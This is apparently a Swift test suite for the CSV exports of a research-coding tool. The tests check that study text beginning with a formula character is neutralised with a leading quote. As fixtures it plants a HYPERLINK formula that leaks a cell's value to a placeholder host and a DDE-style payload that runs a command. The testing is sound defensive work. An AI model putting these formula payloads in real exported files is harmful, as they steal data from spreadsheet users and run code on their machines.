import Foundation
import Testing
import ThemaCore

/// Text from the study that starts like a spreadsheet formula (`=HYPERLINK(...)`, `@SUM`,
/// `+`, `-`) never reaches a CSV cell as a formula: every CSV Thema writes for spreadsheets
/// prefixes such text with `'`, while numbers (a negative kappa) stay numbers.
@Suite(.tags(.fileIO)) struct CSVInjectionTests {
  static let formula = #"=HYPERLINK("http://example.invalid/?leak="&A1,"click")"#

  /// The sample study with a code's name, definition and example that start like formulas.
  static func hostileStudy() throws -> TestStudy {
    let study = try TestStudy.sample()
    let codebook = try #require(study.read("Codebooks/program-managers.md"))
    let hostile = codebook.replacingOccurrences(
      of: "#### 1b Shared experience builds trust with clients", with: "#### 1b \(formula)"
    ).replacingOccurrences(
      of: "Definition: Clients trust, open up", with: "Definition: @SUM(1+1)*cmd|' /C calc'!A0")
    try #require(hostile != codebook)
    try study.write("Codebooks/program-managers.md", hostile)
    return study
  }

  /// The cells of `csv` that a spreadsheet would run.
  static func formulaCells(_ csv: String, numeric: Set<Int> = []) throws -> [String] {
    let records = try CSV.parse(csv)
    return records.flatMap { record in
      record.enumerated().filter { index, cell in
        guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first)
        else { return false }
        return !(numeric.contains(index) && Double(cell) != nil)
      }.map(\.element)
    }
  }

  @Test func theCodebookAsCSVHasNoFormulasAndAColumnForEachValue() throws {
    let study = try Self.hostileStudy()
    let result = study.run(["codebook", "show", "program-managers", "--format", "csv"])
    #expect(result.status == 0, "\(result.err)")
    #expect(try Self.formulaCells(result.out).isEmpty)
    #expect(result.out.contains("'\(Self.formula.replacingOccurrences(of: "\"", with: "\"\""))"))
    // Every row has as many cells as the header (the 'retired' column was missing).
    let records = try CSV.parse(result.out)
    let header = try #require(records.first)
    #expect(header.contains("retired"))
    #expect(records.allSatisfy { $0.count == header.count })
  }

  @Test func agreementCSVNeutralizesNamesAndKeepsNegativeNumbers() throws {
    let study = try Self.hostileStudy()
    let result = study.run(["agree", "--format", "csv"])
    #expect(result.status == 0, "\(result.err)")
    let header = try #require(try CSV.parse(result.out).first)
    let text = Set(
      [
        "codebook", "comparison", "coder_a", "coder_b", "unit", "level", "group",
        "code", "name", "landis_koch", "undefined",
      ].compactMap { header.firstIndex(of: $0) })
    let numeric = Set(header.indices).subtracting(text)
    #expect(try Self.formulaCells(result.out, numeric: numeric).isEmpty)
    #expect(result.out.contains("'=HYPERLINK"))
  }

  @Test func quoteTablesAndReportsAsCSVHaveNoFormulas() throws {
    let study = try Self.hostileStudy()
    for arguments in [
      ["table", "--domain", "T1", "--format", "csv"], ["report", "T1/1b", "--format", "csv"],
    ] {
      let result = study.run(arguments)
      #expect(result.status == 0, "thema \(arguments.joined(separator: " ")): \(result.err)")
      #expect(
        try Self.formulaCells(result.out).isEmpty, "thema \(arguments.joined(separator: " "))")
    }
  }
}
